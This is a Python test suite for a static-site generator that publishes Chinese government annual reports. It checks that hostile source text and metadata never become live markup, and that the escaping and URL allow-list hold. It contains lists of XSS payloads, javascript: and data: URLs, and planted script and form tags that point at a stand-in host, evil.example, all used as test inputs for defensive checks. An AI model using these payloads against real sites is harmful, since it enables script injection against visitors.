"""Nothing from a source becomes live on the site, whatever field it lands in.

Hostile strings (markup, quotes, script URLs, `</title>`, `]]>`, `-->`, bidi and zero-width
controls) are put into every field a source can set — the title line and header lines of a text
source, sidecar keys, an HTML page's <title>, <meta> and links, the file name, headings, table
cells and sentences — the corpus is built, and every output is read with a real parser: HTML
with html5lib (as a browser parses it), the feed and sitemap with an XML parser, JSON-LD and the
theme's configuration with json."""

from __future__ import annotations

import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urlsplit

import html5lib
import markdown as md
import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pipeline import paths, safety
from pipeline.pages import render
from pipeline.records import Metadata, Region
from tests.conftest import build_into, copy_docs_assets

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '"',
    "'",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "]]>",
    "-->",
    "<!--",
    "<![CDATA[x",
    "&lt;script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "[x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "{: onclick=alert(1)}",
    "{#x .y onmouseover=alert(1)}",
    "`code`",
    "*em* _em_ __b__",
    "| a | b |",
    "# ",
    "- ",
    "1. ",
    "> ",
    "\\",
    "\u202e",
    "\u2066",
    "\u202a",
    "\u200b",
    "\ufeff",
    "\u2028",
    "岳塘区",
    "政府信息公开",
    "http://example.gov.cn/a?b=1&c=<d>",
    " ",
]
# Where a hostile link could point.
HOSTILE_URLS = [
    "javascript:alert(document.domain)",
    " javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\u200bscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'http://example.gov.cn/a"onmouseover="alert(1)',
    "https://example.gov.cn/<script>",
]

fragment = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=6))
hostile = st.lists(fragment, min_size=1, max_size=4).map("".join)


def one_line(text: str) -> str:
    return re.sub(r"[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", " ", text)


# --------------------------------------------------------------------------- corpus


def text_source(i: int, f: dict[str, str]) -> tuple[str, str]:
    """A text report with every header label and body structure carrying hostile text."""
    name = f"{i:02d}{one_line(f['name'])[:40].replace('/', '／').replace(chr(0), '')}.txt"
    body = "\n".join(
        [
            f"2012年{one_line(f['title'])}政府信息公开工作年度报告",
            f"发布机构：{one_line(f['issuer'])}",
            f"原文链接：{one_line(f['url'])}",
            f"文号：{one_line(f['doc'])}",
            f"发布时间：{one_line(f['date'])}",
            "",
            "一、概述",
            f"{one_line(f['sentence'])}本机关全年主动公开政府信息120条。",
            f"二、{one_line(f['heading'])[:30]}",
            f"| 项目 | {one_line(f['cell'])} |",
            "| --- | --- |",
            f"| {one_line(f['cell'])} | 5 |",
            f"全年收到政府信息公开申请15件，{one_line(f['sentence'])}全部按时答复。",
            "三、其他",
            f"{f['sentence']}",
        ]
    )
    return name, body


def html_source(i: int, f: dict[str, str]) -> tuple[str, str]:
    """A saved web page whose <title>, <meta>, header table, links and body are hostile, as a
    hostile page would be: the strings are pasted in as markup, not escaped."""
    name = f"{i:02d}{one_line(f['name'])[:40].replace('/', '／').replace(chr(0), '')}.html"
    page = f"""<!doctype html><html><head><meta charset="utf-8">
<title>{f["title"]}政府信息公开工作年度报告 - 某某网</title>
<meta name="ArticleTitle" content="2012年{f["title"]}政府信息公开工作年度报告">
<meta name="ContentSource" content="{f["issuer"]}">
<meta name="PubDate" content="{f["date"]}">
<meta name="description" content="{f["sentence"]}">
<meta name="keywords" content="{f["cell"]}">
</head><body>
<div class="article"><h1>2012年{f["title"]}政府信息公开工作年度报告</h1>
<table><tr><td>发布机构：</td><td>{f["issuer"]}</td><td>文号：</td><td>{f["doc"]}</td></tr>
<tr><td>发布日期：</td><td>{f["date"]}</td></tr></table>
<div class="TRS_Editor">
<p>一、概述</p>
<p>{f["sentence"]}本机关全年主动公开政府信息120条。</p>
<h2>二、{f["heading"]}</h2>
<table><tr><td>项目</td><td>{f["cell"]}</td></tr><tr><td>收到申请</td><td>5</td></tr></table>
<p>全年收到政府信息公开申请15件，全部按时答复。<a href="{f["url"]}">{f["cell"]}</a></p>
<p>附件：<a href="{f["url"]}">附件1.pdf</a> <a href="javascript:alert(1)">附件2.doc</a></p>
</div></div></body></html>"""
    return name, page


def sidecar(f: dict[str, str]) -> str:
    return yaml.safe_dump(
        {
            "url": f["url"],
            "title": one_line(f["title"]),
            "issuer": one_line(f["issuer"]),
            "license": one_line(f["cell"]),
            "retrieved": one_line(f["date"]),
        },
        allow_unicode=True,
    )


def write_corpus(src: Path, reports: list[dict[str, str]]) -> None:
    src.mkdir(parents=True)
    for i, f in enumerate(reports):
        kind = i % 3
        name, text = (html_source if kind == 2 else text_source)(i, f)
        (src / name).write_text(text, encoding="utf-8")
        if kind == 1:
            (src / (name + ".meta.yml")).write_text(sidecar(f), encoding="utf-8")


def build_site(root: Path, reports: list[dict[str, str]]):
    write_corpus(root / "src", reports)
    copy_docs_assets(root / "docs")
    return build_into(root / "src", root, with_site=True)


# --------------------------------------------------------------------------- what "inert" means

# The scripts the site itself loads; anything else is not ours.
OUR_SCRIPTS = re.compile(
    r"^/?(?:\.\./)*(?:\./)?assets/(?:javascripts/(?:bundle\.[0-9a-f]+\.min|md-[a-z-]+)\.js|search\.js)$"
)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "background"}
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
ALLOWED_STYLES = {"text-align: right;"}
CSP_START = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval';"


def _scheme(url: str) -> str | None:
    # As a browser reads it: controls and whitespace dropped at the ends, tabs and newlines inside.
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", cleaned)
    return m.group(1).lower() if m else None


def live_markup(html_text: str, require_csp: bool = True) -> list[str]:
    """Everything in an HTML page that would run or load something we did not write."""
    doc = html5lib.parse(html_text, treebuilder="etree", namespaceHTMLElements=False)
    problems = []
    metas = []
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.split("}")[-1].lower()
        for name, value in el.attrib.items():
            attr = name.split("}")[-1].lower()
            if attr.startswith("on"):
                problems.append(f"<{tag} {attr}>")
            if attr in URL_ATTRIBUTES:
                scheme = _scheme(value)
                if scheme is not None and scheme not in ("http", "https"):
                    problems.append(f"<{tag} {attr}={value!r}>")
            if attr == "style" and value not in ALLOWED_STYLES:
                problems.append(f"<{tag} style={value!r}>")
            if attr == "srcdoc":
                problems.append(f"<{tag} srcdoc>")
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{tag}>")
        if tag == "script":
            src = el.get("src")
            kind = el.get("type", "")
            if src is not None:
                if not OUR_SCRIPTS.match(src):
                    problems.append(f"<script src={src!r}>")
            elif kind == "application/ld+json" or (
                kind == "application/json" and el.get("id") == "__config"
            ):
                json.loads(el.text or "")  # parses, or this raises
            else:
                problems.append(f"<script>{(el.text or '')[:40]!r}")
        if tag == "meta" and el.get("http-equiv") is not None:
            metas.append((el.get("http-equiv"), el.get("content", "")))
        if tag == "form" and el.get("action") not in (None, "./", "search/"):
            problems.append(f"<form action={el.get('action')!r}>")
    if require_csp and (len(metas) != 1 or metas[0][0] != "Content-Security-Policy"):
        problems.append(f"not exactly one http-equiv meta, the CSP: {metas}")
    if metas and not metas[0][1].startswith(CSP_START):
        problems.append(f"CSP changed: {metas[0][1]}")
    return problems


@pytest.mark.parametrize(
    "planted",
    [
        "<img src=x onerror=alert(1)>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java&#x09;script:alert(1)'>x</a>",
        "<iframe src=x.html></iframe>",
        "<script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<form action=//evil.example><button>x</button></form>",
        "<p style='background:url(//evil.example)'>x</p>",
        "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<object data='data:text/html,x'></object>",
    ],
)
def test_the_checker_finds_live_markup(planted):
    """The checks below can fail: each of these is found."""
    assert live_markup(f"<p>text</p>{planted}", require_csp=False) != []


def assert_site_is_inert(site: Path) -> None:
    pages = sorted(p for p in site.rglob("*.html") if "pagefind" not in p.parts)
    assert pages
    for page in pages:
        # A saved web page must never be served as HTML from the site: only our pages are .html.
        assert page.name in ("index.html", "404.html"), page
        assert live_markup(page.read_text(encoding="utf-8")) == [], page
    for name in ("feed.xml", "sitemap.xml"):
        root = ET.fromstring((site / name).read_bytes())  # well-formed, or this raises
        for el in root.iter():
            for attr in ("href", "src"):
                if el.get(attr) is not None:
                    assert _scheme(el.get(attr)) is None, (name, el.get(attr))
        for loc in root.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc"):
            assert _scheme(loc.text or "") is None and not (loc.text or "").startswith("/")
    for js in sorted((site / "assets" / "javascripts").glob("*.js")):
        assert OUR_SCRIPTS.match(f"assets/javascripts/{js.name}") or js.name.endswith(".map"), js


def _norm(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def _h1(page: Path) -> str:
    doc = html5lib.parse(page.read_text(encoding="utf-8"), namespaceHTMLElements=False)
    h1 = doc.find(".//article//h1")
    return _norm("".join(h1.itertext())) if h1 is not None else ""


def assert_titles_read_as_written(site: Path, reports) -> None:
    """Escaped once, not twice: the page shows the title's characters, not entities."""
    for r in reports:
        page = site / "reports" / r.report_id / "index.html"
        assert _h1(page) == _norm(r.metadata.display_title), r.report_id
        doc = html5lib.parse(page.read_text(encoding="utf-8"), namespaceHTMLElements=False)
        title = _norm(doc.find(".//head/title").text or "")
        shown = r.metadata.title_hans or r.metadata.display_title
        assert title.startswith(_norm(shown)), (title, shown)


# --------------------------------------------------------------------------- the three cases of issue 10


ISSUE_CASES = {
    "yuetang-url.txt": "2012年岳塘区政府信息公开工作年度报告\n"
    "原文链接：javascript:alert(document.domain)\n\n一、概述\n本机关全年主动公开政府信息120条。\n",
    "yuetang-title.txt": "2012年岳塘区<img src=x onerror=alert(7)>政府信息公开工作年度报告\n\n"
    "一、概述\n本机关全年主动公开政府信息120条。\n",
    "yuetang-issuer.txt": "2013年岳塘区政府信息公开工作年度报告\n"
    '发布机构：岳塘区</title><script>alert(1)</script>"x\n\n一、概述\n全年主动公开政府信息80条。\n',
}


@pytest.fixture(scope="module")
def issue_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("issue10")
    src = root / "src"
    src.mkdir()
    for name, text in ISSUE_CASES.items():
        (src / name).write_text(text, encoding="utf-8")
    # A sidecar's javascript: URL and a file name of markup.
    (src / "yuetang-url.txt.meta.yml").write_text("title: '2012年岳塘区<b>年报</b>'\n")
    # A header line must name a body to be read as the issuer; a sidecar's issuer is taken as
    # given, so that is how markup still reaches the description.
    (src / "yuetang-issuer.txt.meta.yml").write_text(
        "issuer: '岳塘区</title><script>alert(1)</script>\"x'\n", encoding="utf-8"
    )
    (src / '"><img src=x onerror=alert(2)>.txt').write_text(
        "2014年岳塘区政府信息公开工作年度报告\n\n一、概述\n全年主动公开政府信息90条。\n",
        encoding="utf-8",
    )
    copy_docs_assets(root / "docs")
    result = build_into(src, root, with_site=True)
    return {"root": root, "site": root / "site", "result": result}


def _page(issue_site, source_file: str) -> tuple[str, object]:
    r = next(r for r in issue_site["result"].reports if r.archived.source_file == source_file)
    raw = (issue_site["site"] / "reports" / r.report_id / "index.html").read_text("utf-8")
    return raw, r


def test_script_url_in_a_header_line_is_not_a_link(issue_site):
    raw, r = _page(issue_site, "yuetang-url.txt")
    assert r.metadata.url is None
    assert "javascript:" not in raw.lower()
    assert 'class="source-url"' not in raw
    warnings = [p for p in issue_site["result"].problems if p.source_file == "yuetang-url.txt"]
    assert [p.severity for p in warnings] == ["warning"]
    assert "javascript:alert(document.domain)" in warnings[0].message
    report = (issue_site["site"] / "build-report" / "index.html").read_text("utf-8")
    assert "yuetang-url.txt" in report and "source URL dropped" in report


def test_markup_in_the_title_line_is_text_in_header_and_title(issue_site):
    raw, r = _page(issue_site, "yuetang-title.txt")
    doc = html5lib.parse(raw, namespaceHTMLElements=False)
    assert doc.find(".//img") is None
    assert "<img src=x onerror=alert(7)>" in doc.find(".//head/title").text
    header = doc.findall(".//header//span[@class='md-ellipsis']")
    assert any("<img src=x onerror=alert(7)>" in "".join(h.itertext()) for h in header)
    assert_titles_read_as_written(issue_site["site"], [r])


def test_markup_in_the_issuer_stays_inside_the_description(issue_site):
    raw, _ = _page(issue_site, "yuetang-issuer.txt")
    doc = html5lib.parse(raw, namespaceHTMLElements=False)
    (meta,) = doc.findall(".//head/meta[@name='description']")
    assert meta.get("content").startswith('岳塘区</title><script>alert(1)</script>"x')
    # The one script without a src is the theme's JSON configuration.
    inline = [s for s in doc.findall(".//script") if s.get("src") is None]
    assert [s.get("id") for s in inline] == ["__config"]


def test_issue_site_is_inert(issue_site):
    assert_site_is_inert(issue_site["site"])
    assert_titles_read_as_written(issue_site["site"], issue_site["result"].reports)


# --------------------------------------------------------------------------- the property


@st.composite
def hostile_report(draw) -> dict[str, str]:
    keys = ("title", "issuer", "doc", "date", "heading", "cell", "sentence", "name")
    f = {k: draw(hostile) for k in keys}
    f["url"] = draw(st.one_of(st.sampled_from(HOSTILE_URLS), hostile))
    return f


@pytest.mark.slow
@settings(
    max_examples=3,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(st.lists(hostile_report(), min_size=6, max_size=6))
def test_hostile_sources_build_a_site_with_nothing_live(tmp_path_factory, reports):
    root = tmp_path_factory.mktemp("hostile")
    try:
        result = build_site(root, reports)
        assert result.reports, [p.message for p in result.problems]
        site = root / "site"
        assert_site_is_inert(site)
        assert_titles_read_as_written(site, result.reports)
        for r in result.reports:
            assert r.metadata.url is None or urlsplit(r.metadata.url).scheme in ("http", "https")
            for field in safety.TEXT_FIELDS:
                value = getattr(r.metadata, field) or ""
                assert not re.search(f"[{safety.BIDI_CONTROLS}{safety.ZERO_WIDTH}]", value)
    finally:
        shutil.rmtree(root, ignore_errors=True)


# --------------------------------------------------------------------------- the escape itself


@settings(max_examples=300, deadline=None)
@given(st.lists(fragment, max_size=8).map("".join))
# A control character hid a tab from strip(): the tab then made the value a code block.
@example("\x1b\t<script>alert(1)</script>")
@example("    indented")
def test_page_escape_reads_the_same_in_markdown_html_and_attributes(text):
    """One escape for every place a value sits on a page, and it shows the same characters."""
    text = one_line(text).strip()
    escaped = str(safety.escape_page_text(text))
    text = re.sub(f"[{safety.CONTROLS}]", "", text)  # control characters are not text
    text = re.sub(r"^[ \t]+", "", text, flags=re.M)  # nor is indentation, which a page folds
    expected = _norm(text)
    for source, holder in (
        (f"{escaped}", ".//body"),  # a paragraph
        (f"## {escaped}", ".//body"),  # a heading
        (f"- [{escaped}](x.md)", ".//body"),  # a list item with a link
        (f"| a |\n| --- |\n| {escaped} |", ".//td"),  # a table cell
    ):
        html_text = md.markdown(source, extensions=["tables", "attr_list", "md_in_html", "toc"])
        assert live_markup(html_text, require_csp=False) == []
        doc = html5lib.parse(html_text, namespaceHTMLElements=False)
        element = doc.find(holder)
        shown = _norm("".join(element.itertext())) if element is not None else ""
        assert shown == expected, source
        assert [a.get("href") for a in doc.iter("a")] == (["x.md"] if "[" in source else [])
    doc = html5lib.parse(f'<p title="{escaped}">{escaped}</p>', namespaceHTMLElements=False)
    p = doc.find(".//p")
    assert p.get("title") == text and "".join(p.itertext()) == text


@pytest.mark.parametrize(
    "text", ["!http://x.gov.cn/a", "见!https://x.gov.cn/a.png 与 !http://y.cn"]
)
def test_a_bang_before_a_url_is_no_image(text):
    """A URL in the text becomes a link; a ``!`` written just before it must not make the link
    an image (``![…](…)``), which the browser would fetch from the source's host."""
    from pipeline.markdown import to_markdown

    html = md.markdown(to_markdown(text, "标题"), extensions=["tables", "attr_list", "toc"])
    assert "<img" not in html
    assert html.count("<a href=") == text.count("http")
    assert "!<a href=" in html


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("http://www.example.gov.cn/art/2013/3/20/art_1.html", True),
        ("HTTPS://example.gov.cn/a b", True),
        ("javascript:alert(document.domain)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("java\nscript:alert(1)", False),
        ("\u200bjavascript:alert(1)", False),
        ("data:text/html,<script>", False),
        ("vbscript:msgbox(1)", False),
        ("//evil.example/x", False),
        ("/art/2013/3/20/art_1.html", False),
        ("http:///nohost", False),
        ("ftp://example.gov.cn/x", False),
        ("mailto:a@example.gov.cn", False),
    ],
)
def test_url_allow_list(url, safe):
    out = safety.safe_url(url)
    assert (out is not None) == safe
    if out is not None:
        assert not re.search(r"[\s\"'<>`]", out)


def test_safe_metadata_drops_script_urls_and_controls():
    m = Metadata(
        title="2012年\u202e岳塘区\u200b报告",
        title_hans="2012年\u202e岳塘区\u200b报告",
        issuer="\u2066岳塘区\u2069",
        issuer_type="government",
        admin_level=None,
        region=Region(),
        year=2012,
        published_date="2013-03-20<x>",
        doc_number="岳政\u200b〔2013〕1号",
        document_type="annual_report",
        report_format="free_text",
        script="hans",
        url="javascript:alert(1)",
    )
    safe, notes = safety.safe_metadata(m)
    assert (safe.title, safe.issuer, safe.doc_number) == (
        "2012年岳塘区报告",
        "岳塘区",
        "岳政〔2013〕1号",
    )
    assert safe.url is None and safe.published_date is None
    assert any("javascript:alert(1)" in n for n in notes)
    assert any("title" in n for n in notes) and any("issuer" in n for n in notes)
    assert safety.safe_metadata(safe) == (safe, ())


# --------------------------------------------------------------------------- templates


def test_templates_have_no_escape_hatch():
    """Markup enters a page only from Python, named there; templates cannot turn escaping off."""
    for t in sorted(render.TEMPLATES.glob("*.j2")):
        text = t.read_text(encoding="utf-8")
        assert not re.search(r"\|\s*safe\b|autoescape\s+false|Markup\(", text), t.name


def test_link_filter_refuses_anything_but_site_paths():
    assert str(render.link("../reports/abc_1.md")) == "../reports/abc_1.md"
    assert str(render.link("region/内蒙古自治区/index.md")) == "region/内蒙古自治区/index.md"
    for bad in ("javascript:alert(1)", "x.md)", "a b.md", "../../x/..y", 'x.md"', "#a b"):
        with pytest.raises(ValueError):
            render.link(bad)


def test_front_matter_values_are_html_in_yaml():
    value = str(render.front_matter('岳塘区</title><script>"\u2028'))
    parsed = yaml.safe_load(f"title: {value}")["title"]
    assert "<" not in parsed and '"' not in parsed
    assert (
        html5lib.parse(f"<title>{parsed}</title>")
        .find(".//{http://www.w3.org/1999/xhtml}title")
        .text
        == '岳塘区</title><script>"\u2028'
    )


def test_every_page_kind_is_registered():
    """A page kind is a module with a KIND listed in PAGE_KINDS (not found by its name)."""
    import pipeline.pages as pages

    modules = {
        p.stem
        for p in Path(pages.__file__).parent.glob("*.py")
        if p.stem not in ("__init__", "common", "render")
    }
    registered = {k.outputs.__module__.rsplit(".", 1)[-1] for k in pages.PAGE_KINDS}
    assert registered == modules
    docs = pages.generated_docs()
    assert len(docs) == len(set(docs)) and "reports" in docs and "index.md" in docs


def test_theme_scripts_are_materials_inline_scripts():
    """Material's inline scripts are served as files (so the policy needs no 'unsafe-inline');
    when a Material upgrade changes them, this says which file to copy again."""
    import material

    partials = Path(material.__file__).parent / "templates" / "partials" / "javascripts"
    ours = paths.PACKAGE_DIR / "theme" / "assets" / "javascripts"

    def code(name: str) -> str:
        lines = (ours / name).read_text(encoding="utf-8").splitlines()
        return "\n".join(line for line in lines if not line.startswith("//"))

    def inline(name: str) -> list[str]:
        return re.findall(r"<script>(.*?)</script>", (partials / name).read_text("utf-8"), re.S)

    scope = '"{{ config.extra.scope | d(base_url) }}"'
    assert inline("base.html") == [
        code("md-base.js").replace("document.currentScript.dataset.mdScope", scope)
    ]
    assert inline("content.html") == [code("md-content-tabs.js"), code("md-content.js")]
    assert inline("palette.html") == [code("md-palette.js")]


def test_the_style_hash_of_the_policy_is_of_the_one_style_attribute():
    import base64
    import hashlib

    theme = (paths.PACKAGE_DIR / "theme" / "main.html").read_text(encoding="utf-8")
    (allowed,) = ALLOWED_STYLES
    digest = base64.b64encode(hashlib.sha256(allowed.encode()).digest()).decode()
    assert f"'unsafe-hashes' 'sha256-{digest}'" in theme
